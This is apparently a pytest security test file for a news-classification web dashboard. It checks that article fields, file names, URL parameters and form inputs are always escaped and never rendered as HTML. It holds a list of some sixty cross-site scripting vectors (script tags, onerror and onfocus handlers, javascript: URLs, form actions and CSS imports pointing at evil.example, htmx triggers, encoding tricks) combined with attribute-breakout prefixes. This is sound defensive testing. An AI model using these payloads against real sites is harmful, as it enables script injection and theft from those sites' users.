"""What came from outside is never markup: not in a title, a text, a source, a file's name, a query, a feed.

Each payload has a mark of its own. A page that shows it must show what stands before the mark too, letter by
letter; and no page may have an element, an attribute or an address that it would not have without payloads.
"""

from __future__ import annotations

import hashlib
import re
from collections import defaultdict
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from urllib.parse import quote, unquote_plus, urlsplit

import pytest
from httpx2 import Response
from lxml import etree, html
from starlette.testclient import TestClient

from classifier.articles import Article, Grade
from classifier.tagging import Evidence, Tag, Tagged
from daemon import clock, ledger
from daemon.clock import now
from daemon.feedback import judge
from daemon.records import AlertTopic, DeliveryState, FileState
from daemon.verdicts import Verdict
from tests.at_the_desk import ADDRESS, AtDesk
from tests.builders import MINUTE, make_alert, owe
from tests.test_desk_deliveries import fail
from tests.thoroughness import cases

VECTORS = (
    "<script>{m}()</script>",
    "<script src=//evil.example/{m}></script>",
    "<ScRiPt>{m}()</sCrIpT>",
    "<script\n>{m}()</script\n>",
    "<img src=x onerror={m}()>",
    "<img src=x onerror={m}()//",
    "<img/src=x/onerror={m}()>",
    "<svg onload={m}()>",
    "<svg/onload={m}()>",
    "<svg><script>{m}()</script></svg>",
    "<svg><a xlink:href=javascript:{m}()><text y=20>x</text></a></svg>",
    "<svg><animate onbegin={m}() attributeName=x dur=1s>",
    "<math><mi xlink:href=javascript:{m}()>x</mi></math>",
    "<body onload={m}()>",
    "<body onpageshow={m}()>",
    "<iframe src=javascript:{m}()></iframe>",
    "<iframe srcdoc='<script>{m}()</script>'></iframe>",
    "<object data=javascript:{m}()></object>",
    "<embed src=javascript:{m}()>",
    "<a href=javascript:{m}()>press</a>",
    "<a href=' java\tscript:{m}()'>press</a>",
    "<a href=data:text/html,{m}>press</a>",
    "<form action=//evil.example/{m}><input name=csrf></form>",
    "<button formaction=//evil.example/{m}>press</button>",
    "<input autofocus onfocus={m}()>",
    "<select autofocus onfocus={m}()>",
    "<textarea autofocus onfocus={m}()>",
    "<details open ontoggle={m}()>",
    "<video><source onerror={m}()></video>",
    "<audio src=x onerror={m}()>",
    "<marquee onstart={m}()>",
    "<style>@import '//evil.example/{m}';</style>",
    "<link rel=stylesheet href=//evil.example/{m}>",
    "<div style=background:url(//evil.example/{m})>",
    "<base href=//evil.example/{m}/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/{m}>",
    "<template><script>{m}()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={m}()>'>",
    "<xmp><img src=x onerror={m}()></xmp>",
    "<p>{m}</p>",
    "<b>{m}",
    "</main></body></html>{m}",
    "<!--{m}-->",
    "<![CDATA[{m}]]>",
    "<?php {m} ?>",
    "<div hx-get=/sign-out hx-trigger=load>{m}</div>",
    "<div data-hx-post=/sign-out data-hx-trigger=load>{m}</div>",
    "<div hx-on:load={m}()>",
    "<a id=main name=csrf data-key=r data-item>{m}</a>",
    "<img src='//evil.example/?{m}",
    "&lt;img src=x onerror={m}()&gt;",
    "&#60;script&#62;{m}()&#60;/script&#62;",
    "&amp;lt;b&amp;gt;{m}",
    "javascript:{m}()",
    "data:text/html,<script>{m}()</script>",
    "\uff1cscript\uff1e{m}()\uff1c/script\uff1e",
    "+ADw-script+AD4-{m}()+ADw-/script+AD4-",
    "{{{{ 7*7 }}}}{m}",
    "{{% raw %}}{m}",
    "%(x)s%s{{0}}{m}",
    "\u202e<b>{m}",
    "-->]]></script></style></title>{m}",
)
BEFORE = ("", '">', "'>", "' autofocus onfocus=zqzrun() x='", '" autofocus onfocus=zqzrun() x="')


def mark(number: int) -> str:
    return f"zq{number:04d}q"


PAYLOADS = tuple(
    before + vector.format(m=mark(number))
    for number, (before, vector) in enumerate((b, v) for v in VECTORS for b in BEFORE)
)
HARMLESS = tuple(f"Harmless words {number}" for number in range(60))
_MARK = re.compile(r"zq(\d{4})q")
_NOT_SEEN = re.compile(r"\s|\+|[\u202a-\u202e\ufffd]|\\(?:[ntr]|u[0-9a-f]{4})?")  # or shown as an escape
_AS_FAR_AS = 40  # characters before a mark


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 200


def furnish(at_desk: AtDesk, texts: Sequence[str]) -> list[str]:
    """Articles whose every part is one of these texts; the articles' fingerprints."""
    found = []
    for number, text in enumerate(texts):
        body = f"{text}\nThe refinery restarted. {text}\nMore of it: {text}"
        tag = Tag(
            "energy",
            Grade.MAIN,
            0.9,
            (Evidence(f"The refinery restarted. {text}", 0, 5, 0.9, ((text, 1.2),)),),
        )
        article = Article(
            body, title=text, language="en", source=text, author=text, url=text, caveats=(text,)
        )
        tagged = Tagged(article, (tag,), {"energy": 0.9}, "model-1")
        with at_desk.database.transaction() as connection:
            file = ledger.record_file(
                connection,
                fingerprint=hashlib.sha256(body.encode()).hexdigest(),
                name=text,
                size=len(body),
                state=FileState.DONE,
                now=now(),
                left_out=(text,),
            )
            identity = ledger.record_article(connection, file, 0, tagged, now=now())
            assert identity is not None
            if number % 10 == 0:
                judge(
                    connection,
                    article=identity,
                    topic="energy",
                    verdict=Verdict.WRONG,
                    person=text,
                    now=now(),
                )
        found.append(article.fingerprint)
    at_desk.follow()
    owe_and_fail(at_desk, texts[::10])
    fail_files(at_desk, texts[:60])
    return found


def owe_and_fail(at_desk: AtDesk, texts: Sequence[str]) -> None:
    for number, text in enumerate(texts):
        topic = AlertTopic("energy", text, "main", 0.9, text, (text,))
        alert = make_alert(f"desk {text}", number, headline=text, file=text, source=text, topics=(topic,))
        with at_desk.database.transaction() as connection:
            owe(connection, alert, now=clock.now() - MINUTE)
        fail(at_desk, DeliveryState.DEAD if number % 2 else DeliveryState.PARKED, text, f"desk {text}")


def fail_files(at_desk: AtDesk, texts: Sequence[str]) -> None:
    folder = at_desk.settings.failed
    folder.mkdir(exist_ok=True)
    for text in texts:
        name = text.replace("/", "\u2215")[:80]
        (folder / name).write_text(text, encoding="utf-8")
        (folder / f"{name}.reason.txt").write_text(f"{text}\n{text}\n", encoding="utf-8")


Shape = set[tuple[str, str]]


@dataclass
class Seen:
    """What pages of each kind are made of, while nothing in them is a payload."""

    usual: dict[str, Shape] = field(default_factory=lambda: defaultdict(set))
    marks: set[int] = field(default_factory=set)

    def learn(self, kind: str, answer: Response) -> None:
        assert answer.status_code < 500
        self.usual[kind] |= shape_of(root_of(answer))

    def check(self, kind: str, answer: Response) -> None:
        assert answer.status_code < 500, (kind, answer.status_code)
        root = root_of(answer)
        strange = shape_of(root) - self.usual[kind]
        assert not strange, (kind, strange)
        self.marks |= check_elements(root)


def root_of(answer: Response) -> etree._Element:
    kind = answer.headers["Content-Type"].partition(";")[0]
    text = answer.text
    if kind == "application/atom+xml":
        return etree.fromstring(text.encode())
    assert kind == "text/html", kind
    return html.document_fromstring(text) if "<html" in text else html.fragment_fromstring(text, "div")


def shape_of(root: etree._Element) -> Shape:
    """Elements and their attributes; comments and the like by what they are."""
    return {
        (name_of(each), attribute)
        for each in root.iter()
        for attribute in ("", *(each.attrib if isinstance(each.tag, str) else ()))
    }


def name_of(each: etree._Element) -> str:
    return each.tag if isinstance(each.tag, str) else str(each.tag)


_ADDRESSES = frozenset(
    ("href", "src", "action", "formaction", "poster", "data", "srcset", "hx-get", "hx-post")
)


def check_elements(root: etree._Element) -> set[int]:
    """The payloads that are shown, each as it is."""
    seen = set()
    for each in root.iter(etree.Element):
        assert name_of(each) not in ("iframe", "object", "embed", "base", "template", "style"), name_of(each)
        if name_of(each) == "script":
            assert not (each.text or "").strip() and each.get("src", "").startswith("/static/")
        for name, value in each.attrib.items():
            assert not name.startswith("on") and name not in ("style", "srcdoc"), (name_of(each), name)
            assert "zq" not in name
            if name in _ADDRESSES:
                leads_nowhere_else(value)
            seen |= whole(unquote_plus(value) if name in _ADDRESSES else value)
    # What is split into words or passages stands together again.
    seen |= whole("".join(root.itertext()))
    return seen


def leads_nowhere_else(value: str) -> None:
    """To this desk, or to a page of the web that an article named."""
    assert value[:1] in ("/", "#", "?", "") or urlsplit(value).scheme in ("http", "https", "urn"), value
    assert not value.startswith(("//", "/\\")), value


def whole(text: str) -> set[int]:
    """The numbers of the payloads in a text, which has them as they are: so none was read as markup."""
    found = set()
    for each in _MARK.finditer(text):
        number = int(each[1])
        payload = PAYLOADS[number]
        before = payload[: payload.index(mark(number))][-_AS_FAR_AS:]
        shown = text[: each.start()].replace("\u2215", "/")  # no name has a slash
        assert _NOT_SEEN.sub("", shown[-200:]).endswith(_NOT_SEEN.sub("", before)), (payload, shown[-60:])
        found.add(number)
    return found


def pages_of(client: TestClient, first: str, most: int = 20) -> Iterator[Response]:
    """A page and those that its links to older ones lead to."""
    seen, left = set[str](), [first]
    while left and len(seen) < most:
        address = left.pop()
        if address in seen:
            continue
        seen.add(address)
        answer = client.get(address)
        yield answer
        start = urlsplit(first).path
        for href in root_of(answer).xpath("//a/@href"):
            parts = urlsplit(href)
            if parts.path == start and ("before=" in parts.query or "page=" in parts.query):
                left.append(href)


KINDS = ("/", "/queue", "/topics", "/topics/energy", "/model", "/deliveries", "/health", "/api")


def stored(at_desk: AtDesk) -> Iterator[tuple[str, Response]]:
    """Every page that shows what the ledger has, with what kind it is."""
    client = at_desk.client
    for kind in KINDS:
        for answer in pages_of(client, kind):
            yield kind, answer
    with at_desk.database.reading() as connection:
        channels = connection.exec_driver_sql("SELECT DISTINCT receiver FROM deliveries").scalars().all()
    for channel in channels[-30:]:
        for path in ("/deliveries/list", "/deliveries/hold", "/deliveries/retry"):
            for named in ("receiver", "channel"):
                yield path, client.get(path, params={named: channel, "state": "dead"})
    yield "/today/new", client.get("/today/new", params={"after": "1", "waiting": ""})
    for address in ("/feeds/articles.atom", "/feeds/topics/energy.atom"):
        yield address, client.get(address)


def test_what_is_in_the_ledger_is_never_markup(at_desk: AtDesk) -> None:
    seen = Seen()
    for fingerprint in furnish(at_desk, HARMLESS):
        seen.learn("/articles", at_desk.client.get(f"/articles/{fingerprint}"))
    for kind, answer in stored(at_desk):
        seen.learn(kind, answer)

    articles = furnish(at_desk, PAYLOADS)

    for kind, answer in stored(at_desk):
        seen.check(kind, answer)
    assert len(seen.marks) >= 200  # they are shown
    seen.marks.clear()
    for fingerprint in articles[::8]:
        seen.check("/articles", at_desk.client.get(f"/articles/{fingerprint}"))
    assert len(seen.marks) >= len(articles[::8])


# Where something of an address is shown, or might be.
REFLECTED = (
    "/?q={}",
    "/?topic={}",
    "/?source={}",
    "/?language={}",
    "/?grade={}&since={}&until={}&story={}&before={}",
    "/today/new?after={}&q={}",
    "/articles/{}",
    "/queue?kind={}&topic={}&by={}",
    "/topics/{}",
    "/topics/energy?by={}&since={}&cut={}",
    "/topics/energy/cut?main={}&mention={}",
    "/model?a={}&b={}",
    "/model/versions/{}",
    "/model/diff?a={}&b={}",
    "/deliveries/list?receiver={}&state={}&channel={}",
    "/deliveries/retry?receiver={}&channel={}",
    "/deliveries/hold?receiver={}&channel={}",
    "/health?before={}",
    "/login?next={}",
    "/enter?token={}",
    "/nothing/{}",
    "/feeds/topics/{}.atom",
    "/feeds/articles.atom?q={}",
    "/feeds/articles.atom?source={}",
    "/api/articles?q={}",
    "/api/articles/{}",
)


def check_reflected(at_desk: AtDesk, payloads: Sequence[str]) -> None:
    usual = Seen()
    for address in REFLECTED:
        for harmless in ("harmless", "1", "energy"):
            answer = at_desk.client.get(address.replace("{}", harmless))
            if is_page(answer):
                usual.learn("any", answer)
    for payload in payloads:
        for address in REFLECTED:
            answer = at_desk.client.get(address.replace("{}", quote(payload, safe="")))
            assert answer.status_code < 500, (address, payload)
            if "Location" in answer.headers:
                leads_nowhere_else(answer.headers["Location"].removeprefix(ADDRESS))
            if is_page(answer):
                usual.check("any", answer)
            elif answer.content:
                assert (
                    "json" in answer.headers["Content-Type"] or "text/plain" in answer.headers["Content-Type"]
                )
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert usual.marks


def is_page(answer: Response) -> bool:
    kind = answer.headers.get("Content-Type", "")
    return kind.startswith(("text/html", "application/atom+xml")) and answer.status_code != 204


def test_what_an_address_says_is_never_markup(at_desk: AtDesk) -> None:
    check_reflected(at_desk, PAYLOADS[::31])


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_no_payload_in_any_address_is_markup(at_desk: AtDesk) -> None:
    check_reflected(at_desk, PAYLOADS[:: cases(1, 4)])  # a step


def test_what_a_form_says_is_never_markup(at_desk: AtDesk) -> None:
    fingerprint = furnish(at_desk, HARMLESS[:1])[0]
    forms = (
        (f"/articles/{fingerprint}/verdicts", ("topic", "verdict")),
        (f"/articles/{fingerprint}/labels", ("topic", "passage", "start", "end", "grade")),
        ("/queue", ("article", "topic", "verdict")),
        ("/topics", ("id", "title", "covers", "en")),
        ("/topics/energy/terms", ("terms", "en", "ru", "covers", "title", "base")),
        ("/model/use", ("version", "name")),
        ("/deliveries/hold", ("receiver", "channel", "until", "why")),
        ("/login", ("name", "token", "next")),
        ("/language", ("language", "next")),
    )
    for payload in PAYLOADS[::62]:
        for path, fields in forms:
            answer = at_desk.client.post(path, data=dict.fromkeys(fields, payload))
            assert answer.status_code < 500, (path, payload)
            if is_page(answer):
                check_elements(root_of(answer))
            if "Location" in answer.headers:
                leads_nowhere_else(answer.headers["Location"].removeprefix(ADDRESS))


def test_a_payload_that_became_markup_would_be_seen() -> None:
    """The checks themselves: what they are to find, they find."""
    page = "<html><body><h1>x</h1>{}</body></html>"
    escaped = html.document_fromstring(page.format(html_of(PAYLOADS[0])))
    assert check_elements(escaped) == {0}
    for number, payload in enumerate(PAYLOADS):
        raw = html.document_fromstring(page.format(f'<p title="{payload}">{payload}</p>'))
        if re.search('[<&"]', payload[: payload.index(mark(number))]):
            assert is_caught(raw, number), payload


def is_caught(root: etree._Element, number: int) -> bool:
    usual = {("html", ""), ("body", ""), ("h1", ""), ("p", ""), ("p", "title")}
    try:
        check_elements(root)
        is_shown = number in whole("".join(root.itertext()))
    except AssertionError:
        return True
    return not is_shown or bool(shape_of(root) - usual)


def html_of(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
